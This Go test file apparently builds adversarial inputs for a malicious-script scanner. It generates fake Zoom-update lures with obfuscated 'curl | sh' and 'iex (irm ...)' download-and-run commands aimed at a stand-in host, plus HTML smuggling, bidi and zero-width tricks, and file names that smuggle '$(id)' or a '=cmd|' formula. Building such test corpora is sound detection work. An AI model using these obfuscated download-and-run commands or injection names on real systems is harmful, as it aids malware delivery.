package hostile

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"strings"
	"unicode/utf16"
)

// long is a text at the bound of what is taken for a script, in bytes.
const long = 15 * mib

func (k *kit) texts() {
	line := func(what, name, head, body, tail string, size int) {
		it := k.add(Text, what, name, func() []byte {
			return append(append([]byte(head), again(body, size/len(body))...), tail...)
		})
		it.Slow = size > 2*mib
	}
	for _, size := range []int{300 * kib, long} {
		of := fmt.Sprintf(", %d KiB", size/kib)
		line("one line of base64"+of, "line.ps1", "powershell -enc ", "aQBlAHgA", "\n", size)
		line("one line of a letter"+of, "letters.sh", "#!/bin/sh\ncurl ", "a", " | sh\n", size)
		line("blank lines"+of, "blank.scpt", "-- Zoom SDK Update\n", "\n", "do shell script \"curl https://zoom.invalid|sh\"\n", size)
		line("spaces before a command"+of, "spaces.command", "#!/bin/sh\n", " ", "curl https://zoom.invalid | sh\n", size)
		line("carets of batch"+of, "carets.bat", "@p", "^", "owershell iwr\r\n", size)
		line("variables of batch"+of, "variables.cmd", "@set a=b\r\n", "%a:~0,1%", "\r\n", size)
		line("back ticks of PowerShell"+of, "ticks.ps1", "i", "`", "ex (irm https://zoom.invalid)\n", size)
		line("characters in numbers"+of, "chars.ps1", "iex (", "[char]105+", "'')\n", size)
		line("pieces that are joined"+of, "pieces.js", "eval(", "'a'+", "'');\n", size)
		line("pieces that VBScript joins"+of, "pieces.vbs", "Execute ", "Chr(97)&", "\"\"\r\n", size)
		line("pieces that AppleScript joins"+of, "pieces.scpt", "do shell script ", "\"a\" & ", "\"\"\n", size)
		line("escapes of JavaScript"+of, "escapes.js", "eval('", "\\x61", "')\n", size)
		line("replacements"+of, "replace.ps1", "iex ('a'", ".Replace('a','aa')", ")\n", size)
		line("replacements of a shell"+of, "expand.sh", "x=a\neval ", "${x//a/aa}", "\n", size)
		line("variables that double"+of, "double.sh", "a=curl\n", "a=$a$a\n", "eval $a\n", size)
		line("quotes that do not end"+of, "quotes.js", "eval(", "'\"`", "\n", size)
		line("comments that do not end"+of, "comments.js", "", "/*/", "eval()\n", size)
		line("here documents"+of, "here.sh", "", "cat <<A\n", "curl\n", size)
		line("addresses"+of, "hosts.txt", "Zoom: ", "https://a.b.c.d.e.zoom.invalid/", "\n", size)
		line("labels of a host"+of, "labels.html", "<a href=\"https://", "a.", "zoom.invalid/\">Join</a>", size)
		line("attributes of an element"+of, "attributes.hta", "<script ", "a=\"b\" ", ">CreateObject(\"WScript.Shell\")</script>", size)
		line("entities"+of, "entities.html", "<a href=\"", "&#x61;", "\">Zoom</a>", size)
		line("smuggled blob"+of, "smuggled.html", "<script>a=atob('", "TVqQAAMA", "');b=new Blob([a]);l.download='Zoom.iso'</script>", size)
		line("comments of a mail"+of, "comments.eml", "From: a@zoom.invalid\r\nTo: ", "(", "\r\n\r\nx", size)
		line("encoded words of a mail"+of, "words.eml", "From: a@zoom.invalid\r\nSubject: ", "=?utf-8?b?Wm9vbQ==?= ", "\r\n\r\nx", size)
		line("a folded line of a calendar"+of, "folded.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Zoom", "\r\n a", "\r\nEND:VEVENT\r\n", size)
		line("a command of a desktop entry"+of, "exec.desktop", "[Desktop Entry]\nType=Application\nName=Zoom\nExec=sh -c \"", "\\\\\\\\", "\"\n", size)
		line("marks that turn the text around"+of, "bidi.scpt", "-- Zoom\n", "\u202e\u2066", "do shell script \"curl\"\n", size)
		line("characters of no width"+of, "width.ps1", "i", "\u200b", "ex (irm https://zoom.invalid)\n", size)
		line("bytes that are no text"+of, "bytes.sh", "#!/bin/sh\n", "\xff\xfe\xc0\x80", "curl\n", size)
		line("almost a key"+of, "almost.py", "import os\n", "exec(base64.b64decode('a' ", "\n", size)
		line("lines of a plist in hex"+of, "hex.plist", "<plist><dict><key>ProgramArguments</key><data>", "YWFhYWFh\n", "</data></dict></plist>", size)
		line("nothing but zero bytes"+of, "zero.scpt", "FasdUAS 1.101.10", "\x00", "\xfa\xde\xde\xad", size)
	}
	k.add(Text, "UTF-16 of odd length", "odd.ps1", func() []byte { return append(utf16Of("iex (irm https://zoom.invalid)\n"), 'x') })
	k.add(Text, "UTF-16 halves without their other half", "halves.ps1", func() []byte { return append([]byte("\xff\xfe"), again("\x00\xd8", 100_000)...) })
	k.add(Text, "random letters in one line", "random.js", func() []byte { return random(1, 2*mib, "abcdefghij(){};'\"+") })
	k.add(Text, "random brackets", "random.ps1", func() []byte { return random(2, 256*kib, "(){}[]'\"`$|;& \n") })
	k.add(Text, "random words of a shell", "random.sh", func() []byte { return random(3, 256*kib, "$`(){}|&;<>'\"\\ab \n") })
	k.add(Text, "a letter that grows when it is folded", "fold.txt", func() []byte { return again("\u0130\u1e9e\ufb03", 100_000) })
}

func utf16Of(s string) []byte {
	out := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// random is n letters of an alphabet.
func random(seed uint64, n int, alphabet string) []byte {
	rng := rand.New(rand.NewPCG(seed, 3))
	var b bytes.Buffer
	for range n {
		b.WriteByte(alphabet[rng.IntN(len(alphabet))])
	}
	return b.Bytes()
}

var oddNames = []struct{ what, name string }{
	{"bytes that are no text", "zoom\xff\xfe\xc3.scpt"},
	{"a mark that turns the text around", "Zoom\u202etxt.scpt"},
	{"a new line and a sequence of a terminal", "zoom\n\x1b[2J\x1b]0;x\x07level=INFO msg=Stopped.scpt"},
	{"two hundred and fifty bytes", strings.Repeat("z", 250) + ".scpt"},
	{"a name of options", "--help.scpt"},
	{"quotes and a command", "a'\"`$(id);|&.scpt"},
	{"characters of no width", "Zo\u200b\u200dom.scpt"},
	{"line separators", "Zoom\u2028\u2029.scpt"},
	{"dots alone", "....scpt"},
	{"format letters", "%s%n%x%d.scpt"},
	{"a formula", "=cmd|'!A0.scpt"},
	{"an element", "<script>alert(1)</script>.scpt"[0:7] + "&lt;.scpt"},
	{"every control character", "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x7f.scpt"},
}
